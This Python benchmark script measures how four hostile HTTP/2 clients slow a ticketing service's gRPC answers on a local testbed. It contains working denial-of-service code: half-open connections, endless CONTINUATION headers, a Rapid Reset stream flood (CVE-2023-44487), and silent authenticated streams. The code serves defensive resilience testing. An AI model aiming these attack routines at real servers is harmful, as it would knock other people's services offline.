"""Measure how hostile clients slow the answers to a shop: `python -m benchmarks.hostile [ATTACK ...]`, 90 seconds.

One process attacks: with half-open connections, with endless headers, with streams that are opened and reset by the
thousand, or with silent open streams. Only the last attack has a credential. A shop calls at a steady rate. Rounds with
and without each attack take turns, so that both meet the same state of the machine.
"""

import contextlib
import multiprocessing
import socket
import sys
import time
from collections.abc import Callable, Sequence

from benchmarks.http2 import END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS, frame, header
from benchmarks.report import percentile
from benchmarks.testbed import Testbed, running_testbed, steady_latencies
from ticketing.tickets.v1 import event_service_pb2

ROUND_SECONDS = 5.0
ROUNDS = 2
CALLS_A_SECOND = 40.0
CONNECTIONS = 400
STREAMS = 900
SETTLE_SECONDS = 0.5

CONTINUATION = 9
PATH = "/ticketing.tickets.v1.EventService/ListEvents"


def call(authorization: str = "") -> bytes:
    """Encode the headers of a call."""
    fields = {":method": "POST", ":scheme": "http", ":path": PATH, ":authority": "x"}
    fields |= {"content-type": "application/grpc", "te": "trailers"}
    fields |= {"authorization": authorization} if authorization else {}
    return b"".join(header(*field) for field in fields.items())


def connect(address: tuple[str, int]) -> socket.socket:
    """Open a connection and send the HTTP/2 preface."""
    connection = socket.create_connection(address, timeout=2)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def half_open(address: tuple[str, int], _authorization: str) -> None:
    """Open connections and never complete the preface."""
    connections = []
    for _ in range(CONNECTIONS):
        connection = socket.create_connection(address, timeout=2)
        connection.sendall(PREFACE[:9])
        connections.append(connection)
    time.sleep(3600)


def endless_headers(address: tuple[str, int], _authorization: str) -> None:
    """Send header blocks without end, on one connection after the other."""
    more = header("x-more", "m" * 16_000)
    while True:
        with contextlib.suppress(OSError), connect(address) as connection:
            connection.sendall(frame(HEADERS, 0, 1, call()))
            while True:
                connection.sendall(frame(CONTINUATION, 0, 1, more))


def resets(address: tuple[str, int], _authorization: str) -> None:
    """Open streams and reset them at once (CVE-2023-44487), until a connection has no stream ids left."""
    opening = call()
    while True:
        with contextlib.suppress(OSError), connect(address) as connection:
            for first in range(1, 200_000, 200):
                streams = range(first, first + 200, 2)
                connection.sendall(
                    b"".join(
                        frame(HEADERS, END_HEADERS, stream, opening) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                        for stream in streams
                    )
                )


def silent_streams(address: tuple[str, int], authorization: str) -> None:
    """Open as many streams as one caller may have, and send no message."""
    with connect(address) as connection:
        opening = call(authorization)
        for stream in range(1, 2 * STREAMS, 2):
            connection.sendall(frame(HEADERS, END_HEADERS, stream, opening))
        time.sleep(3600)


ATTACKS: Sequence[Callable[[tuple[str, int], str], None]] = (half_open, endless_headers, resets, silent_streams)


def answers(testbed: Testbed, seconds: float) -> list[float]:
    """Call at a steady rate; return the seconds from the scheduled time of each call to its answer."""
    shop = testbed.client("service", "shop")
    request = event_service_pb2.ListEventsRequest()
    return steady_latencies(lambda: shop.ask(shop.events.ListEvents, request), seconds, CALLS_A_SECOND)


def main() -> int:
    """Run the attacks named on the command line, or all of them; print p50 and p95."""
    context = multiprocessing.get_context("spawn")
    with running_testbed() as testbed:
        address = testbed.address("TICKETS")
        authorization = testbed.metadata("user", "mallory")[0][1]
        answers(testbed, 1)
        print(f"{'milliseconds':>16} {'usual p50':>10} {'p95':>7} {'attacked p50':>13} {'p95':>7} {'times p50':>10}")
        for attack in [attack for attack in ATTACKS if attack.__name__ in sys.argv[1:] or not sys.argv[1:]]:
            usual, attacked = list[float](), list[float]()
            for _ in range(ROUNDS):
                usual += answers(testbed, ROUND_SECONDS)
                attacker = context.Process(target=attack, args=(address, authorization), daemon=True)
                attacker.start()
                time.sleep(SETTLE_SECONDS)
                attacked += answers(testbed, ROUND_SECONDS)
                attacker.kill()
                attacker.join()
                time.sleep(SETTLE_SECONDS)
            times = [1000 * percentile(found, share) for found in (usual, attacked) for share in (50, 95)]
            row = f"{times[0]:>10.1f} {times[1]:>7.1f} {times[2]:>13.1f} {times[3]:>7.1f} {times[2] / times[0]:>10.2f}"
            print(f"{attack.__name__:>16} {row}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
